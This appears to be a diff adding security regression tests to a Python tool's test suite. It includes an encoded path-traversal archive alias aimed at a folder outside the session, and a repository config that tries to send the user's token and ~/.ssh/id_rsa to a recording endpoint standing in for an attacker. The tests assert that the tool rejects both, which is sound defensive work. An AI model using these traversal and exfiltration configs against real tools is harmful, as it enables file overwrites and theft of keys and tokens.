@@ -15,11 +15,13 @@ import subprocess
 import sys
 import time
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from tests.conftest import EmbeddedServer, clean_env, run_connect
+from tests.conftest import EmbeddedServer, clean_env, run_connect, trust_project
 
 pytestmark = pytest.mark.integration
 
@@ -201,3 +203,127 @@ def test_project_state_is_user_only_even_with_a_permissive_umask(
         if mode != (0o700 if (project / ".sparkpush" / name).is_dir() else 0o600)
     }
     assert wrong == {}
+
+
+def tar_gz_with(path: Path, member: str, data: bytes) -> None:
+    import io
+    import tarfile
+
+    with tarfile.open(path, "w:gz") as archive:
+        info = tarfile.TarInfo(member)
+        info.size = len(data)
+        archive.addfile(info, io.BytesIO(data))
+
+
+def escaping_alias(victim: Path) -> str:
+    """An alias that the executors percent-decode to `../../.../<victim>` (absolute)."""
+    up = "%2e%2e%2f" * 30  # more `../` than any folder is deep: `..` at `/` stays at `/`
+    return up + "%2f".join(victim.resolve().parts[1:])
+
+
+@pytest.mark.parametrize("how", ["config", "flag"])
+def test_an_encoded_archive_alias_cannot_replace_a_folder_outside_the_session(
+    embedded_server: EmbeddedServer, tmp_path: Path, how: str
+) -> None:
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / "precious.txt").write_text("keep me")
+    project = tmp_path / "project"
+    project.mkdir()
+    tar_gz_with(project / "env.tar.gz", "planted.txt", b"from the archive")
+    (project / "app.py").write_text("print('never runs')\n")
+    archive = f"env.tar.gz#{escaping_alias(victim)}"
+    if how == "config":
+        (project / "pyproject.toml").write_text(
+            f'[tool.sparkpush.artifacts]\narchives = ["{archive}"]\n'
+        )
+        args = ["sync"]
+    else:
+        args = ["submit", "--archives", archive, "app.py"]
+
+    result = run_connect(args, env=embedded_server.env, cwd=project, timeout=180)
+
+    assert result.returncode == 2, result.stderr
+    assert "must be a plain folder name" in result.stderr
+    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
+    assert (victim / "precious.txt").read_text() == "keep me"
+    assert not (victim / "planted.txt").exists()
+
+
+class RecordingEndpoint:
+    """A loopback gRPC endpoint standing in for an attacker's host: it records what arrives."""
+
+    def __init__(self) -> None:
+        import grpc
+
+        self.metadata: list[dict[str, str]] = []
+        endpoint = self
+
+        class Record(grpc.GenericRpcHandler):
+            def service(self, details: Any) -> None:
+                endpoint.metadata.append(dict(details.invocation_metadata))
+                return None  # UNIMPLEMENTED: the client fails, having sent its headers
+
+        self.server = grpc.server(ThreadPoolExecutor(max_workers=2))
+        self.server.add_generic_rpc_handlers((Record(),))
+        self.port = self.server.add_insecure_port("127.0.0.1:0")
+        self.server.start()
+
+    def received(self, secret: str) -> bool:
+        return any(secret in value for seen in self.metadata for value in seen.values())
+
+    def stop(self) -> None:
+        self.server.stop(grace=None)
+
+
+def test_a_repository_config_cannot_send_the_users_token_or_files_elsewhere(
+    embedded_server: EmbeddedServer, tmp_path: Path
+) -> None:
+    attacker = RecordingEndpoint()
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text("PRIVATE KEY")
+    project = tmp_path / "cloned-repo"
+    project.mkdir()
+    embedded_token = embedded_server.state_home / "sparkpush" / "server.token"
+    env = {**embedded_server.env, "HOME": str(home)}
+
+    def configure(token_file: Path) -> None:
+        (project / "pyproject.toml").write_text(
+            "[tool.sparkpush]\n"
+            f'remote = "sc://localhost:{attacker.port}"\n'
+            f'token_file = "{token_file}"\n'
+            "[tool.sparkpush.artifacts]\n"
+            'files = ["~/.ssh/*"]\n'
+        )
+
+    try:
+        configure(embedded_token)
+        untrusted = run_connect(["sync"], env=env, cwd=project)
+        assert not attacker.received(embedded_server.token)
+        assert untrusted.returncode == 2, untrusted.stderr
+        assert "sets remote, token_file (not trusted)" in untrusted.stderr
+        assert attacker.metadata == []  # nothing was sent at all
+
+        # Trusted, the embedded server's token still never goes to another host.
+        trust_project(project, env)
+        trusted = run_connect(["sync"], env=env, cwd=project)
+        assert not attacker.received(embedded_server.token)
+        assert trusted.returncode == 2, trusted.stderr
+        assert "only ever sent to the embedded server" in trusted.stderr
+        assert attacker.metadata == []
+
+        # A token of the project's own: the files outside the project are still refused.
+        own_token = project / "token"
+        own_token.write_text("project-token")
+        configure(own_token)
+        changed = run_connect(["sync"], env=env, cwd=project)
+        assert changed.returncode == 2, changed.stderr
+        assert "changed since it was trusted" in changed.stderr
+        trust_project(project, env)
+        outside = run_connect(["sync"], env=env, cwd=project)
+        assert outside.returncode == 2, outside.stderr
+        assert "id_rsa leads outside the project" in outside.stderr
+        assert not attacker.received(embedded_server.token)
+    finally:
+        attacker.stop()
